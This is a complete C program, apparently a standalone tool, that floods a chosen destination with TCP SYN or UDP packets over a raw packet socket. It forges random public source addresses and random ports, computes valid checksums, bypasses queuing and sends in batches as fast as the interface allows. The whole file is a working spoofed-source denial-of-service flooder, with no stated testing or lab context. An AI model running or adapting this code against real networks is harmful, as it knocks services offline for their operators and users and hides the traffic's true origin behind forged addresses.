/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Sends TCP SYNs or UDP packets of random sources, source ports and, of a range, destination ports,
 * with right checksums, as fast as the device takes them.
 *
 *   flood DEVICE DESTINATION-MAC syn|udp SOURCE|random DESTINATION FIRST-PORT LAST-PORT COUNT
 *
 * Prints how many were sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH 64

struct frame {
	struct ether_header eth;
	struct iphdr ip;
	union {
		struct tcphdr tcp;
		struct udphdr udp;
	};
} __attribute__((packed));

static uint64_t state = 88172645463325252ULL;

static uint32_t random32(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state >> 16;
}

/* An address that could be anybody's. */
static uint32_t random_source(void)
{
	for (;;) {
		uint32_t source = random32(), first = source >> 24;

		if (first >= 11 && first < 224 && first != 127 && first != 169 && first != 172 &&
		    first != 192 && first != 198 && first != 203)
			return htonl(source);
	}
}

static uint32_t sum(const void *data, int length, uint32_t from)
{
	const uint8_t *bytes = data;

	for (int i = 0; i < length; i += 2)
		from += bytes[i] << 8 | bytes[i + 1];
	return from;
}

static uint16_t folded(uint32_t value)
{
	while (value >> 16)
		value = (value & 0xffff) + (value >> 16);
	return htons(~value);
}

static int die(const char *what)
{
	perror(what);
	return 1;
}

int main(int argc, char **argv)
{
	static struct frame frames[BATCH];
	static struct mmsghdr messages[BATCH];
	static struct iovec pieces[BATCH];
	int tcp, first, span, length, on = 1;
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	unsigned int mac[6];
	uint32_t source, destination;
	struct ifreq own = {};
	long count, sent = 0;

	if (argc != 9 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4,
				mac + 5) != 6)
		return 2;
	tcp = !strcmp(argv[3], "syn");
	source = strcmp(argv[4], "random") ? inet_addr(argv[4]) : 0;
	destination = inet_addr(argv[5]);
	first = atoi(argv[6]);
	span = atoi(argv[7]) - first + 1;
	count = atol(argv[8]);
	state ^= (uint64_t)getpid() << 32;

	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	strncpy(own.ifr_name, argv[1], IFNAMSIZ - 1);
	to.sll_ifindex = if_nametoindex(argv[1]);
	if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &own) || bind(fd, (struct sockaddr *)&to, sizeof(to)))
		return die("open");
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
	length = sizeof(struct ether_header) + sizeof(struct iphdr) +
		 (tcp ? sizeof(struct tcphdr) : sizeof(struct udphdr));
	for (int i = 0; i < BATCH; i++) {
		struct frame *f = &frames[i];

		for (int j = 0; j < 6; j++)
			f->eth.ether_dhost[j] = mac[j];
		memcpy(f->eth.ether_shost, own.ifr_hwaddr.sa_data, 6);
		f->eth.ether_type = htons(ETH_P_IP);
		f->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64};
		f->ip.tot_len = htons(length - sizeof(struct ether_header));
		f->ip.protocol = tcp ? IPPROTO_TCP : IPPROTO_UDP;
		f->ip.daddr = destination;
		pieces[i] = (struct iovec){f, length};
		messages[i].msg_hdr.msg_iov = &pieces[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	while (sent < count) {
		int some = count - sent < BATCH ? count - sent : BATCH;

		for (int i = 0; i < some; i++) {
			struct frame *f = &frames[i];
			int transport = length - sizeof(f->eth) - sizeof(f->ip);
			uint16_t check;
			uint32_t pseudo;

			f->ip.saddr = source ? source : random_source();
			f->ip.id = random32();
			f->ip.check = 0;
			f->ip.check = folded(sum(&f->ip, sizeof(f->ip), 0));
			pseudo = sum(&f->ip.saddr, 8, f->ip.protocol + transport);
			if (tcp)
				f->tcp = (struct tcphdr){.syn = 1, .doff = 5, .seq = random32(),
							 .window = htons(64240)};
			else
				f->udp = (struct udphdr){.len = htons(transport)};
			/* Both begin with the ports. */
			f->udp.source = htons(1024 + random32() % 64512);
			f->udp.dest = htons(first + random32() % span);
			check = folded(sum((uint8_t *)f + length - transport, transport, pseudo));
			if (tcp)
				f->tcp.check = check;
			else
				f->udp.check = check;
		}
		int done = sendmmsg(fd, messages, some, 0);

		if (done > 0)
			sent += done;
		else
			usleep(10);
	}
	printf("%ld\n", sent);
	return 0;
}
